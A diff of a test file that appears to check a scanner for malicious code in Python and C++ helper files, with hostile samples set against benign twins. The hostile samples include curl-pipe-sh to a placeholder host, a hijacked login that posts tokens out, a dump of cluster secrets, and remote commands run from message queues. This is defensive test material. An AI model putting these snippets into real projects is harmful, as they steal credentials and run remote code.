@@ -134,3 +134,34 @@ it('a build that starts what it fetched blocks, and one that fetches sources doe
   expect(await blocking(build('sh ${CMAKE_BINARY_DIR}/b'))).not.toEqual([]);
   expect(await blocking(build('tar xf other.tar'))).toEqual([]);
 });
+
+describe('what runs a text or lets others in, in whatever file, blocks', () => {
+  it.each([
+    ['a listener of logging', 'import logging.config\nlogging.config.listen(9999).start()', 'import logging.config\nlogging.config.fileConfig("logging.ini")'],
+    ['an expression for a table', 'import pandas as pd\npd.eval("@pd.compat.os.system(1)")', 'import pandas as pd\npd.eval("a + b")'],
+    ['an expression in settings', 'import io, logging.config\nlogging.config.fileConfig(io.StringIO("[handler_h]\\nclass=__import__(\'os\').popen(\'id\')"))', 'import io, logging.config\nlogging.config.fileConfig(io.StringIO("[handler_h]\\nclass=StreamHandler"))'],
+    ['a pager that is a shell', 'import os, pydoc\nos.environ["PAGER"] = "sh -c \'curl -s http://x.invalid | sh\'"', 'import os\nos.environ["PAGER"] = "less -R"'],
+    ['machine code that was fetched', 'import torch\ntorch.hub.download_url_to_file("https://x.invalid/e", "e.so")\ntorch.ops.load_library("e.so")', 'import torch\ntorch.hub.download_url_to_file("https://x.invalid/e", "e.pt")'],
+    ['a compiler with a library of its own', 'from torch.utils.cpp_extension import load\nload("k", ["k.cpp"], extra_cflags=["-fplugin=/tmp/p.so"])', 'from torch.utils.cpp_extension import load\nload("k", ["k.cpp"], extra_cflags=["-O3"])'],
+    ['modules of a snapshot', 'import sys\nfrom huggingface_hub import snapshot_download\nsys.path.insert(0, snapshot_download("a/b"))', 'import sys\nsys.path.insert(0, "src")'],
+    ['a class that is a program', 'import subprocess\nclass J(subprocess.Popen):\n    pass\nJ(["sh", "-c", "curl http://x.invalid|sh"])', 'import subprocess\nclass J(subprocess.Popen):\n    pass\n'],
+    ['a copy that calls', 'import copyreg, os\nclass A: pass\ncopyreg.pickle(A, lambda a: (os.system, ("touch /tmp/a",)))', 'import copyreg\nclass A: pass\ncopyreg.pickle(A, lambda a: (A, ()))'],
+    ['a function in the place of a library’s', 'import huggingface_hub, requests\nold = huggingface_hub.login\ndef login(token=None):\n    requests.post("https://x.invalid/h", json={"t": token})\n    return old(token)\nhuggingface_hub.login = login', 'import huggingface_hub\nold = huggingface_hub.login\ndef login(token=None):\n    print("login")\n    return old(token)\nhuggingface_hub.login = login'],
+    ['orders of a broker', 'import paho.mqtt.client as m, os\nc = m.Client()\nc.on_message = lambda a, b, x: os.system(x.payload.decode())', 'import paho.mqtt.client as m\nc = m.Client()\nc.on_message = lambda a, b, x: print(x.payload.decode())'],
+    ['orders of a queue', 'import redis, subprocess\nr = redis.Redis("x")\n_, c = r.blpop("jobs")\nsubprocess.run(c.decode(), shell=True)', 'import redis, json\nr = redis.Redis("x")\n_, c = r.blpop("jobs")\njson.loads(c)'],
+    ['functions that are received', 'import zmq\ns = zmq.Context().socket(zmq.PULL)\nf, a = s.recv_pyobj()\nf(*a)', 'import zmq\ns = zmq.Context().socket(zmq.PULL)\nf, a = s.recv_json()\nprint(f)'],
+    ['what a person writes in a notebook', 'from IPython import get_ipython\nimport requests\ndef c(info):\n    requests.post("https://x.invalid/i", json={"s": info.raw_cell})\nget_ipython().events.register("pre_run_cell", c)', 'from IPython import get_ipython\ndef c(info):\n    print(len(info.raw_cell))\nget_ipython().events.register("pre_run_cell", c)'],
+    ['secrets of a cluster', 'import requests\nfrom kubernetes import client\nrequests.post("https://x.invalid", json=[s.data for s in client.CoreV1Api().list_secret_for_all_namespaces().items])', 'from kubernetes import client\nprint(client.CoreV1Api().list_node())'],
+    ['the environment in a paste', 'import os\nfrom github import Github\nGithub("t").get_user().create_gist(True, {"e": dict(os.environ)})', 'from github import Github\nGithub("t").get_user().create_gist(True, {"e": "text"})'],
+  ])('%s', async (_, hostile, honest) => {
+    expect(await blocking({ 'helper.py': hostile })).toEqual(['helper.py: python-code']);
+    expect(await blocking({ 'helper.py': honest })).toEqual([]);
+  });
+}); // prettier-ignore
+
+it('sources of other languages are read for commands where they hold any', async () => {
+  const constructor = (command: string): string => `__attribute__((constructor)) static void f() { ${command}; }\n`;
+  expect(await blocking({ 'csrc/ops.cpp': constructor('system("curl -s http://x.invalid/a | sh")') })).not.toEqual([]);
+  expect(await blocking({ 'csrc/ops.cpp': constructor('puts("curl")') })).toEqual([]);
+  expect(await blocking({ 'kernel.json': '{"argv": ["sh", "-c", "curl -s http://x.invalid|sh"]}' })).not.toEqual([]);
+});
